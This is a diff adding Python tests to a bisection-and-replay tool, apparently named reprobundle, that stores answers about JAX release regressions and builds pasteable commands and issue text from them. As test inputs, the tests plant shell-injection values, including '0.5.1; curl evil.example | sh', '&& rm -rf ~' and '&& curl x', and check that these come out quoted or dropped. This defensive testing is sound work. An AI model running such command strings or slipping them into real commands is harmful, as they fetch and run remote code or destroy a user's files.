@@ -190,3 +190,74 @@ def test_an_answer_keeps_what_was_no_regression_its_confirmation_and_the_run_it_
     answer = stored["answer"]
     assert answer["set_aside"] == result.set_aside and answer["confirmation"]["confirmed"] is False
     assert answer["reported_run"] == "20261205T120000-0123abcd" and stored["runs"] == ["20261205T120000-0123abcd"]
+
+
+def test_the_command_shown_for_pasting_is_rebuilt_from_the_record_and_quoted(store):
+    """A stored answer's `command` is whatever the store's writer put there: the issue body's "asked again with"
+    line is rebuilt from the record's fields, each word shell-quoted, never that text."""
+    import shlex
+
+    from reprobundle.investigate.answers import asked_again, explanation_answer
+
+    registry = Registry.open(store)
+    bundle = registry.resolve("small@1")
+    hostile = bisection_answer(bundle, _answered(bad="0.5.1; curl evil.example | sh"),
+                               "reprobundle bisect small; curl evil.example | sh", "20261205T000000-00000001")
+    registry.put_answer(hostile)
+    explained = _explained()
+    explained["candidate"] = "0.4.33 retraced [XLA_FLAGS=--xla_cpu_use_thunk_runtime=false]"
+    record = explanation_answer(bundle, explained, "reprobundle explain small && rm -rf ~", "20261205T000000-00000002")
+    registry.put_answer(record)
+
+    body = issue_markdown(issue_data("small", store=str(store)))
+    assert "rm -rf" not in body
+    bisect = asked_again(hostile, "small@1")
+    assert shlex.split(bisect) == ["reprobundle", "bisect", "small@1", "--good", "0.4.38", "--bad",
+                                   "0.5.1; curl evil.example | sh", "--retrace"]
+    explain = asked_again(record, "small@1")
+    assert shlex.split(explain) == ["reprobundle", "explain", "small@1", "--jax", "0.4.31", "--variant",
+                                    "0.4.33:XLA_FLAGS=--xla_cpu_use_thunk_runtime=false", "--frozen", "--by", "time"]
+    # the rebuilt commands are the ones the body shows (its Markdown escapes | and _)
+    assert "asked again with `reprobundle bisect small@1 --good 0.4.38 --bad '0.5.1; curl evil.example \\| sh' " \
+           "--retrace`" in body
+    assert "asked again with `reprobundle explain small@1 --jax 0.4.31 --variant 0.4.33:XLA\\_FLAGS=" in body
+
+
+def test_url_replays_the_releases_of_the_stored_answer(store):
+    """`url`'s replay command shows what the latest stored answer found (its last good and first bad release,
+    retraced as it was found), not the releases the bundle happened to be replayed on; a stranger's record whose
+    releases do not read as releases is passed over."""
+    registry = Registry.open(store)
+    bundle = registry.resolve("small@1")
+    code, out, err = cli("url", "small", "--json", store=store)
+    assert code == 0, err
+    before = json.loads(out)["jax_versions"]
+    assert "0.4.38" not in before and "0.5.0" not in before
+    store_bisection(registry, bundle, _answered(), "reprobundle bisect small --good 0.4.38 --bad 0.5.1")
+    code, out, err = cli("url", "small", "--json", store=store)
+    assert code == 0, err
+    info = json.loads(out)
+    assert info["jax_versions"] == ["0.4.38", "0.5.0"]
+    assert info["replay_command"].endswith("--jax 0.4.38 --jax 0.5.0 --retrace"), info["replay_command"]
+    code, out, err = cli("url", "small", "--json", "--jax", "0.7.2", store=store)  # asked for: as asked
+    assert json.loads(out)["replay_command"].endswith("--jax 0.7.2"), out
+
+    odd = bisection_answer(bundle, _answered(first_bad="0.5.0 && curl x"), "x", "20391203T000000-00000009")
+    registry.put_answer(odd)  # the latest now, and it names no release: the runs' releases again
+    code, out, err = cli("url", "small", "--json", store=store)
+    assert json.loads(out)["jax_versions"] == before, out
+
+
+def test_explain_and_minimize_take_the_stored_answers_last_good_and_first_bad(store):
+    """Without --jax, explain and minimize compare the last good and the first bad release of the latest stored
+    answer, in that order (outputs and times judged against the last good release, never the packing one); without
+    an answer, the error says so."""
+    from reprobundle.bundle.sharing import answered_pair
+
+    registry = Registry.open(store)
+    bundle = registry.resolve("small@1")
+    code, out, err = cli("explain", "small", store=store)
+    assert code != 0 and "explain compares two different versions" in err and "stored answer" in err, err
+    assert answered_pair(registry, bundle) == []
+    store_bisection(registry, bundle, _answered(), "reprobundle bisect small --good 0.4.38 --bad 0.5.1")
+    assert answered_pair(registry, bundle) == ["0.4.38", "0.5.0"]
